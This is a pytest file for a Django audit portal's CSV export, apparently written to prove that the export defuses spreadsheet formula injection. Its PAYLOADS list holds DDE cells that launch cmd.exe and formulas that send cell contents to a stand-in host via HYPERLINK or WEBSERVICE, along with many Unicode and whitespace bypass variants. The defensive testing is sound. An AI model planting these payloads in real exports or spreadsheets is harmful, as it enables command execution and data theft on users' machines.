"""The table for spreadsheets: whatever stands in an event, no cell is taken for a formula, whoever reads it how."""

import csv
import io
import json
import re
import unicodedata

import pytest
from django.core.management import call_command
from django.db import transaction
from hypothesis import given
from hypothesis import strategies as st

from portal.audit.exporting._csv import COLUMNS, defused
from portal.audit.models import Event
from portal.audit.services import record

PAYLOADS = [
    "=1+1", "+1", "-1", "@SUM(1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"see")', "=IMPORTXML(CONCAT(A1),\"//a\")",
    "=WEBSERVICE(\"http://x.example\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=MSEXCEL|'\\..\\..\\cmd.exe'!''",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  +1", "\u00a0=1+1", "\u2003=1+1", "\u200b=1+1", "\ufeff=1+1",
    "\u00ad=1+1", "\u202e=1+1", "\x00=1+1", "\x0b=1+1", "\x85=1+1", "\u2028=1+1",
    '"=1+1', "'=1+1", '""=1+1', "' =1+1", "“=1+1", "’=1+1", "«=1+1",
    "＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1+1", "﹢1", "﹣1", "﹫x", "−1+cmd", "⁺1", "⁼1",
    "a;=1+1", 'a";=1+1', "a; =1+1", "a;;\t=1+1", "a\n=1+1", "a\r\n+1", "a\r-1", "a;＝1+1", ";@x", "a;\"=1+1",
    "a,=1+1", '",=1+1', "a\t=1+1", '";"=1+1',
]  # fmt: skip
_NOT_SEEN = {"Zs", "Zl", "Zp", "Cc", "Cf"}


def could_run(cell: str) -> bool:
    """Whether a spreadsheet could take this cell for a formula, told apart from how cells are written."""
    for character in unicodedata.normalize("NFKC", cell):
        if character in "=+-@\u2212\t\r":
            return True
        if character == "'":
            return False  # what follows is text
        if not (unicodedata.category(character) in _NOT_SEEN or character in '"`´‘’“”«»'):
            return False
    return False


def cells_as_read(text: str) -> list[str]:
    """The cells of a file as spreadsheets of several countries see them: with their separator, quotes honoured only
    where a cell begins with one, a new row at each line break outside of quotes."""
    found: list[str] = []
    for separator in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            found += row
        found += (
            [cell for line in re.split(r"[\r\n]+", text) for cell in line.split(separator)] if separator != "," else []
        )
    return found


@pytest.mark.parametrize("place", ["subject", "payload", "key"])
def test_no_payload_is_taken_for_a_formula(db: None, tmp_path: object, place: str) -> None:
    with transaction.atomic():
        for number, text in enumerate(PAYLOADS):
            payload = {"payload": {"why": text}, "key": {text: number}}.get(place, {})
            record("a.happened", actor="system", subject=text[:170] if place == "subject" else "", payload=payload)
    file = tmp_path / "audit.csv"  # type: ignore[operator]
    call_command("export_audit", "--format", "csv", "-o", str(file), stdout=io.StringIO())
    content = file.read_bytes()
    assert content.startswith(b"\xef\xbb\xbf")
    text = content.decode("utf-8-sig")
    assert [cell for cell in cells_as_read(text) if could_run(cell)] == []
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert tuple(rows[0]) == COLUMNS
    events = Event.objects.filter(seq__lte=len(rows)).order_by("seq")
    assert [(int(row["seq"]), json.loads(row["payload"])) for row in rows] == [
        (event.seq, event.payload) for event in events
    ]
    assert all(row["leaf"] == bytes(event.leaf).hex() for row, event in zip(rows, events, strict=True))
    assert content.count(b"\r\n") == len(rows) + 1 == content.count(b"\n")


def test_there_are_enough_payloads() -> None:
    assert len(set(PAYLOADS)) >= 50


@given(st.text(alphabet=st.sampled_from("=+-@＝−;,\"' \t\r\n\u200b\u2028aé1"), max_size=12))
def test_no_cell_is_taken_for_a_formula(text: str) -> None:
    written = defused(text)
    assert not any(could_run(part) for part in written.split(";"))
    assert not re.search(r"[\x00-\x1f\u2028\u2029]", written)


@pytest.mark.parametrize(
    "text", ["anna", "d0b3c1c0-5d7e-4a60-a3c8-0b2d8f0f4c11", "éà", "a-b", "a=b", "1-2", "", "x; y"]
)
def test_ordinary_cells_stay_as_they_are(text: str) -> None:
    assert defused(text) == text
